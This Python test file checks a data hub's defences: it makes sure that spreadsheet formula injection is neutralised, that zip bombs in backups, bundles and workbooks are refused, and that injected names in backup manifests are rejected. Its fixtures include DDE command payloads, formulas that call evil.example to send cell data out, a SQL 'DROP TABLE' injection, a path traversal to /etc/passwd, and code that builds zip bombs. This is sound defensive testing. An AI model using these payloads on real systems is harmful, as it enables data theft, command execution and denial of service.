"""Files from strangers: bombs in zips, names that are statements, and cells that are formulas. None of them works."""

import io
import json
import tracemalloc
import zipfile
from collections.abc import Iterator
from contextlib import contextmanager
from pathlib import Path

import openpyxl
import pytest

from contracts import Problem, Refused
from contracts.cells import plain, safe
from hub import backup
from hub.evidence.offline.bundle import check
from hub.evidence.offline.checkpoint import Malformed
from hub.linking.rejects import Rejects
from registry import sheet_files
from tests.hub.evidence.conftest import HUB

FORMULAS = (
    "=1+1", "=cmd|' /C calc'!A0", '=HYPERLINK("http://evil.example/?x="&A1,"x")', '=WEBSERVICE("http://evil.example")',
    '=IMPORTXML("http://evil.example","//a")', "+1+1", "-1+1", "@SUM(1,1)", "\t=1+1", "\r=1+1", "\n=1+1", " =1+1",
    "'=1+1", "''=1+1", "' =1+1", "\uff1d1+1", "\uff0b1", "\uff0d1", "\uff20SUM(1)", "-2+3+cmd|' /C calc'!A0",
    '=DDE("cmd","/C calc","x")', "+91 98765 43210",
)  # fmt: skip
MEGABYTE = 1 << 20


@contextmanager
def within(megabytes: int) -> Iterator[None]:
    """What is done inside takes no more memory than that at any moment."""
    tracemalloc.start()
    try:
        yield
        assert tracemalloc.get_traced_memory()[1] < megabytes * MEGABYTE
    finally:
        tracemalloc.stop()


def packed(path: Path, members: dict[str, bytes], times: int = 1) -> Path:
    with zipfile.ZipFile(path, "w", zipfile.ZIP_DEFLATED) as archive:
        for name, content in members.items():
            with archive.open(name, "w", force_zip64=True) as member:
                for _ in range(times):
                    member.write(content)
    return path


@pytest.mark.parametrize("cell", FORMULAS)
def test_no_writer_puts_a_formula_into_a_cell(cell: str, tmp_path: Path) -> None:
    dangerous = ("=", "+", "-", "@", "\t", "\r", "\n", "\uff1d", "\uff0b", "\uff0d", "\uff20", " ")
    assert not safe(cell).startswith(dangerous) and plain(safe(cell)) == cell
    assert cell not in sheet_files.csv_text([[cell]]).split(",") or safe(cell) == cell
    book = openpyxl.load_workbook(io.BytesIO(sheet_files.xlsx_bytes([[cell]], "x")))
    assert book.worksheets[0]["A1"].data_type == "s"
    with Rejects(tmp_path / "rejects.csv") as rejects:
        rejects.add("left", 1, "rule", [Problem(field=cell.strip() or "x", rule="rule", message="mend")])
    written = (tmp_path / "rejects.csv").read_text(encoding="utf-8").splitlines()[1]
    assert written.split(",")[3].strip('"').startswith("'")


@pytest.mark.parametrize("cell", ["Asha", "12", "", "a=b", "O'Brien", "'Asha'", "आशा"])
def test_other_cells_stay_as_they_are(cell: str) -> None:
    assert plain(safe(cell)) == cell == safe(cell)


def test_a_manifest_that_unpacks_to_half_a_gigabyte_is_no_backup(tmp_path: Path) -> None:
    bomb = packed(tmp_path / "bomb.zip", {"manifest.json": b" " * MEGABYTE}, 512)
    assert bomb.stat().st_size < MEGABYTE
    with within(64), pytest.raises(Refused, match="not_a_backup"):
        backup.verify(bomb)


def test_a_row_that_never_ends_is_a_damaged_backup(tmp_path: Path) -> None:
    table = {"name": "records", "columns": ["row"], "kinds": ["int"], "key": ["row"], "rows": 1, "sha256": "0" * 64}
    manifest = {"format": 1, "made_by": "0", "migration": "0001", "backend": "sqlite",
                "taken_at": "2026-01-01T00:00:00Z", "tables": [table]}  # fmt: skip
    path = tmp_path / "bomb.zip"
    with zipfile.ZipFile(path, "w", zipfile.ZIP_DEFLATED) as archive:
        archive.writestr("manifest.json", json.dumps(manifest))
        with archive.open("records.copy", "w", force_zip64=True) as member:
            for _ in range(300):
                member.write(b"0" * MEGABYTE)
    with within(200), pytest.raises(Refused, match="backup_damaged"):
        backup.verify(path)


@pytest.mark.parametrize("name", ['records"; DROP TABLE audit; --', "../../etc/passwd", "a b", "", "x" * 64, "récords"])
@pytest.mark.parametrize("where", ["name", "columns", "key"])
def test_a_name_in_a_backup_that_is_no_name_is_not_put_into_a_statement(name: str, where: str, tmp_path: Path) -> None:
    table = {"name": "records", "columns": ["row"], "kinds": ["int"], "key": ["row"], "rows": 0, "sha256": "0" * 64}
    table[where] = name if where == "name" else [name]
    manifest = {"format": 1, "made_by": "0", "migration": "0001", "backend": "sqlite",
                "taken_at": "2026-01-01T00:00:00Z", "tables": [table]}  # fmt: skip
    with pytest.raises(Refused, match="not_a_backup"):
        backup.verify(packed(tmp_path / "b.zip", {"manifest.json": json.dumps(manifest).encode()}))


@pytest.mark.parametrize("member", ["checkpoint", "entries.jsonl"])
def test_a_bundle_that_unpacks_to_half_a_gigabyte_is_no_bundle(member: str, tmp_path: Path) -> None:
    bomb = tmp_path / "bomb.zip"
    with zipfile.ZipFile(bomb, "w", zipfile.ZIP_DEFLATED) as archive:
        for name in ("checkpoint", "entries.jsonl"):
            with archive.open(name, "w", force_zip64=True) as out:
                for _ in range(512 if name == member else 0):
                    out.write(b" " * MEGABYTE)
    with within(400), pytest.raises(Malformed):
        check(bomb, HUB.verifier)


@pytest.mark.parametrize("content", [b"", b"PK", b"PK\x05\x06" + b"\0" * 18, b"\x89PNG\r\n\x1a\n", b"GIF89a;<script>"])
def test_what_is_no_zip_is_neither_backup_nor_bundle_nor_sheet(content: bytes, tmp_path: Path) -> None:
    path = tmp_path / "x.zip"
    path.write_bytes(content)
    with pytest.raises(Refused, match="not_a_backup"):
        backup.verify(path)
    with pytest.raises(Malformed):
        check(path, HUB.verifier)
    with pytest.raises(Refused, match="sheet_unreadable"):
        list(sheet_files.read_bytes(content, "x.xlsx"))


def test_a_workbook_that_unpacks_to_many_times_its_size_is_refused_unread(tmp_path: Path) -> None:
    bomb = packed(tmp_path / "x.xlsx", {"xl/worksheets/sheet1.xml": b"0" * MEGABYTE}, 90)
    with within(64), pytest.raises(Refused, match="sheet_unsafe"):
        list(sheet_files.read_bytes(bomb.read_bytes(), "x.xlsx"))
